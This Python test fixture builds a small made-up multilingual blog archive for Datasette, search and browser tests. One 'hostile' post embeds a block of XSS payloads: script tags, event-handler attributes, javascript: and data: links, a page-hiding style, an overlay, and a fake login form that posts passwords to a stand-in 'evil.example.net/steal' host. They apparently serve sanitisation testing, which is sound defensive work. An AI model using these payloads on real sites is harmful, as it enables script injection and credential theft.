"""A small invented archive for the Datasette, search and browser tests, written through Archive.save_posts."""

from __future__ import annotations

from pathlib import Path

from archiver.store import Archive

SITES = {
    "zh": ("https://notes.example.cn/", "随手记"),
    "en": ("https://words.example.org/", "Plain Words"),
}

HOSTILE_HTML = """
<p id="intro">Nothing to see here.</p>
<script>window.pwned = true; document.title = "PWNED";</script>
<img src="x-missing.png" onerror="window.pwned = true; document.title = 'PWNED'" alt="broken">
<svg onload="window.pwned = true"><circle r="4"></circle></svg>
<a id="js-link" href="javascript:window.pwned=true;document.title='PWNED'">click me</a>
<a id="data-link" href="data:text/html,<script>alert(1)</script>">data link</a>
<iframe src="javascript:parent.pwned=true"></iframe>
<form action="https://evil.example.net/steal"><input name="password"><button>Log in</button></form>
<style>body { display: none !important; } .archiver-post::after { content: "PWNED"; }</style>
<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9999">overlay</div>
<object data="javascript:window.pwned=true"></object>
<meta http-equiv="refresh" content="0;url=javascript:window.pwned=true">
<p onmouseover="window.pwned = true" id="hover">Hover text stays as text.</p>
<pre><code class="language-js">if (a &lt; b) { return "&lt;script&gt;alert(1)&lt;/script&gt;"; }
  indented line</code></pre>
"""

# (key, site, title, published, tags, categories, author, lang, content_text, content_html or None)
POSTS = [
    ("dict", "zh", "Python 字典的实现原理", "2024-03-02T10:00:00+08:00", ["Python", "数据结构"], ["编程"], "小林", "zh-CN",
     "字典是 Python 中最常用的数据结构，它用哈希表实现，查找很快。", None),
    ("queue", "zh", "用两个栈实现队列", "2024-02-10T09:30:00+08:00", ["算法"], ["编程"], "小林", "zh-CN",
     "队列先进先出，栈后进先出。用两个栈就能实现一个队列。", None),
    ("gc", "zh", "垃圾回收是怎样工作的", "2023-11-05T20:00:00+08:00", ["运行时"], ["编程"], "阿明", "zh-CN",
     "垃圾回收器会找出不再使用的对象，标记清除是最常见的垃圾回收算法。", None),
    ("decoy", "zh", "周末随笔", "2023-11-20T08:00:00+08:00", ["生活"], ["随笔"], "阿明", "zh-CN",
     "垃圾分类之后，纸张可以回收利用。今天写了几个字，又翻了翻词典。排队的人很多，列车晚点了。", None),
    ("running", "en", "Running a garbage collector by hand", "2024-01-15T18:00:00-05:00", ["gc", "Python"],
     ["Programming"], "Dana", "en",
     "Sometimes the collector runs too late. We forced the garbage collector to run between requests.", None),
    ("queues", "en", "Notes on queues and stacks", "2022-07-01T12:00:00-05:00", ["algorithms"], ["Programming"],
     "Dana", "en", "A queue is first in, first out. Stacks are last in, first out.", None),
    ("ja", "zh", "ガベージコレクションの仕組み", "2024-04-01T12:00:00+09:00", ["ランタイム"], [], "小林", "ja",
     "東京で開催された勉強会で、ガベージコレクションについて話しました。", None),
    ("ko", "zh", "쓰레기 수집기 이야기", "2024-04-03T12:00:00+09:00", [], [], "小林", "ko",
     "가비지 컬렉션은 메모리를 자동으로 회수합니다.", None),
    ("hostile", "en", "A perfectly normal post", "2024-05-01T08:00:00+00:00", ["security"], ["Programming"],
     "Mallory", "en", "Nothing to see here. Hover text stays as text.", HOSTILE_HTML),
]


def build_sample_archive(db_path: Path) -> dict[str, int]:
    """Write SITES and POSTS (and one crawl with an error) into a new archive; returns post ids by key."""
    with Archive(db_path) as archive:
        crawl_id = archive.start_crawl([url for url, _ in SITES.values()], {})
        site_ids = {
            key: archive.upsert_site(url=url, title=title, engine="hexo", theme=None, feeds=[], sitemaps=[], lang=None)
            for key, (url, title) in SITES.items()
        }
        records = []
        for key, site, title, published, tags, categories, author, lang, text, content_html in POSTS:
            url = f"{SITES[site][0]}posts/{key}/"
            records.append(
                {
                    "site_id": site_ids[site],
                    "url": url,
                    "url_key": url.split("://", 1)[1].rstrip("/"),
                    "title": title,
                    "excerpt": text[:30],
                    "excerpt_source": "listing",
                    "published": published,
                    "author": author,
                    "lang": lang,
                    "tags": tags,
                    "categories": categories,
                    "content_html": content_html or f"<p>{text}</p>",
                    "content_text": text,
                    "content_markdown": text,
                    "page_status": 200,
                }
            )
        archive.save_posts(records, crawl_id)
        archive.log_error(crawl_id, f"{SITES['en'][0]}posts/gone/", "http-error", "HTTP 404 Not Found", status=404)
        archive.finish_crawl(crawl_id, "partial", {"pages_fetched": 12, "message": "1 page failed"})
        return {key: row[0] for key, row in zip(
            [post[0] for post in POSTS],
            archive.db.execute("SELECT id FROM posts ORDER BY id").fetchall(),
            strict=True,
        )}
